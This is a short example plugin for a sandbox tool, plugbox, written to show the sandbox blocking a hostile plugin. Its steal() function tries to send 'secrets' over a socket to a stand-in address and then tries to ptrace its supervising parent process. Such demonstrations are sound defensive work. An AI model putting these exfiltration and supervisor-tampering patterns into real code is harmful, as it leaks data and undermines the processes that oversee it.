"""evil demonstrates what the sandbox does to a hostile plugin. steal() first
tries to send data over the network: the sandbox refuses socket() with EACCES,
so Python raises PermissionError, which the plugin prints. It then tries to
ptrace its parent, the plugbox supervisor: ptrace is never allowed, the
worker is killed on the spot and plugbox exits with status 3, naming the
plugin and the syscall.

    plugbox call --plugins examples/plugins evil steal
"""

import ctypes
import os
import socket

import plugbox

PTRACE_SEIZE = 0x4206


@plugbox.export
def steal():
    try:
        with socket.create_connection(("192.0.2.1", 443), timeout=2) as s:
            s.sendall(b"secrets")
        print("network: sent the secrets")
    except OSError as e:
        print(f"network: {type(e).__name__}: {e}")

    print("trying ptrace on the supervisor...", flush=True)
    libc = ctypes.CDLL(None, use_errno=True)
    rc = libc.ptrace(PTRACE_SEIZE, os.getppid(), None, None)
    return f"ptrace returned {rc} (errno {ctypes.get_errno()}): the sandbox did not stop it"
